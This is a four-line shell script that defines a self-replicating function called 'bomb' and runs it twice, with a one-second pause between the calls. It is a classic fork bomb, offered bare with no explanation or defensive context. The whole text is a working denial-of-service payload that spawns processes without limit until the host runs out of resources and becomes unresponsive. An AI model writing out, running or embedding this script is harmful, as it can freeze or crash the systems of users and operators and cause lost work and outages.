bomb() { bomb | bomb & }
bomb
sleep 1
bomb
